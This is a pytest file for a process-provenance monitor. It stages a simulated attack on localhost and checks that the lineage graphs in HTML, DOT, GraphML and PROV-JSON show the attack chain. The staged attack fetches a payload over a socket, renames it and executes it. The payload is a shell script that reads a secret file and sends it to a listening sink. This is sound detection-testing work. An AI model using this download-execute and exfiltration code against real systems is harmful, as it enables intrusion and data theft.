"""The provenance outputs over a real attack-like run under the monitor: the HTML page in
headless Chromium draws the lineage's nodes, and DOT, GraphML and PROV-JSON of the same answer
are read by their real readers."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import threading
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
from prov.model import ProvActivity, ProvDocument, ProvEntity
from prov.serializers.provjson import ProvJSONSerializer

from tests.chromium import open_page
from tests.monitor_harness import MONITOR, Monitor, running_monitor

SERVER = """
import socket, sys
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
if sys.argv[1] == "give":
    conn.sendall(sys.stdin.buffer.read())
else:
    data = b""
    while chunk := conn.recv(65536):
        data += chunk
    sys.stdout.buffer.write(data)
conn.close()
"""

# Fetch a payload, save it under a temporary name, rename it, run it.
VICTIM = """
import os, socket, sys
d, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection(("127.0.0.1", port))
payload = b""
while chunk := s.recv(65536):
    payload += chunk
tmp = os.path.join(d, "download.part")
with open(tmp, "wb") as f:
    f.write(payload)
os.rename(tmp, os.path.join(d, "run me.sh"))
os.chmod(os.path.join(d, "run me.sh"), 0o755)
pid = os.fork()
if pid == 0:
    os.execv(os.path.join(d, "run me.sh"), ["run me.sh"])
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status))
"""

EXFIL = """#!/bin/sh
exec {python} -c 'import socket; s = socket.create_connection(("127.0.0.1", {port})); \\
s.sendall(open("{secret}", "rb").read()); s.close()'
"""


@dataclass
class Attack:
    mon: Monitor
    db: Path
    dir: Path
    payload_port: int
    sink_port: int


def _server(role: str) -> tuple[subprocess.Popen[bytes], int]:
    proc = subprocess.Popen([sys.executable, "-c", SERVER, role], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE)
    assert proc.stdout is not None
    return proc, int(proc.stdout.readline())


@pytest.fixture(scope="module")
def attack(workdir: Path) -> Iterator[Attack]:
    """The issue's attack story under the real monitor, then an index of what it recorded."""
    d = workdir / "outputs attack"
    d.mkdir()
    secret = d / "secret.txt"
    with running_monitor(workdir / "outputs-monitor") as mon:
        secret.write_text("the crown jewels\n")
        sink, sink_port = _server("take")
        giver, payload_port = _server("give")
        script = EXFIL.format(python=sys.executable, port=sink_port, secret=secret)
        feeder = threading.Thread(target=giver.communicate, args=(script.encode(),))
        feeder.start()
        victim = subprocess.Popen([sys.executable, "-c", VICTIM, str(d), str(payload_port)])
        assert victim.wait(timeout=60) == 0
        feeder.join(timeout=60)
        assert sink.communicate(timeout=60)[0] == b"the crown jewels\n"
        docs = mon.wait_for(lambda e: e["event"]["action"] == "exit"
                            and e["process"]["pid"] == victim.pid)
        # The monitor records the whole (shared, busy) host: index what this test's process
        # tree did, so the test does not wait on indexing every other process's events.
        ours = d / "ours.jsonl"
        ours.write_bytes(b"".join(json.dumps(doc).encode() + b"\n"
                                  for doc in _tree(docs, os.getpid())))
        db = workdir / "outputs.duckdb"
        proc = subprocess.run([*MONITOR, "index", "--db", str(db), str(ours)],
                              capture_output=True, text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        yield Attack(mon, db, d, payload_port, sink_port)


def _tree(docs: list[dict[str, Any]], root: int) -> Iterator[dict[str, Any]]:
    """Documents of `root` and of every process it started, directly or not."""
    pids = {root}
    for doc in docs:
        proc = doc.get("process") or {}
        if proc.get("pid") not in pids and (proc.get("parent") or {}).get("pid") in pids:
            pids.add(proc["pid"])
        if proc.get("pid") in pids:
            child = (doc.get("ebpf") or {}).get("child_pid")
            if child:
                pids.add(child)
            yield doc


def _query(run: Attack, fmt: str, out: Path) -> None:
    proc = subprocess.run(
        [*MONITOR, "lineage", f"endpoint:127.0.0.1:{run.sink_port}", "--no-index",
         "--db", str(run.db), "--format", fmt, "-o", str(out)],
        capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr


@pytest.fixture(scope="module")
def lineage(attack: Attack, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("outputs")
    files = {fmt: d / f"lineage.{fmt}" for fmt in ("json", "html", "dot", "graphml", "prov")}
    for fmt, path in files.items():
        _query(attack, fmt, path)
    return files


class TestLineageOutputs:
    """One real lineage answer in every graph format."""

    def test_html_draws_the_lineage(self, attack: Attack, lineage: dict[str, Path],
                                    capsys: pytest.CaptureFixture[str]) -> None:
        """Chromium draws exactly the answer's nodes, the download chain among them."""
        answer = json.loads(lineage["json"].read_text())
        view = open_page(lineage["html"], "provenance-attack-lineage")
        with capsys.disabled():
            print(f"\n  screenshot: {view.screenshot}\n  page: {lineage['html']}")
        drawn = {n["id"] for n in view.drawn["nodes"]}
        assert drawn == {n["id"] for n in answer["nodes"]}
        d = attack.dir
        assert {f"endpoint:127.0.0.1:{attack.sink_port}",
                f"endpoint:127.0.0.1:{attack.payload_port}",
                f"file:{d}/run me.sh", f"file:{d}/download.part",
                f"file:{d}/secret.txt"} <= drawn
        assert len(view.drawn["edges"]) == len(answer["edges"])

    def test_dot_graphml_prov_readers_agree(self, lineage: dict[str, Path]) -> None:
        """Graphviz lays the DOT out, networkx and the prov library read the same nodes."""
        answer = json.loads(lineage["json"].read_text())
        ids = {n["id"] for n in answer["nodes"]}
        dot = shutil.which("dot")
        assert dot, "graphviz not installed: make deps installs it"
        svg = subprocess.run([dot, "-Tsvg", str(lineage["dot"])], capture_output=True,
                             text=True, check=False)
        assert svg.returncode == 0 and not svg.stderr, svg.stderr
        drawn = {g.get("id") for g in ET.fromstring(svg.stdout).iter(
            "{http://www.w3.org/2000/svg}g") if g.get("class") == "node"}
        assert drawn == ids
        g = nx.read_graphml(io.BytesIO(lineage["graphml"].read_bytes()))
        assert set(g.nodes) == ids
        assert g.number_of_edges() == len(answer["edges"])
        with open(lineage["prov"]) as f:
            doc = ProvJSONSerializer(ProvDocument()).deserialize(f)
        processes = sum(n["kind"] == "process" for n in answer["nodes"])
        assert len(list(doc.get_records(ProvActivity))) == processes
        assert len(list(doc.get_records(ProvEntity))) == len(ids) - processes
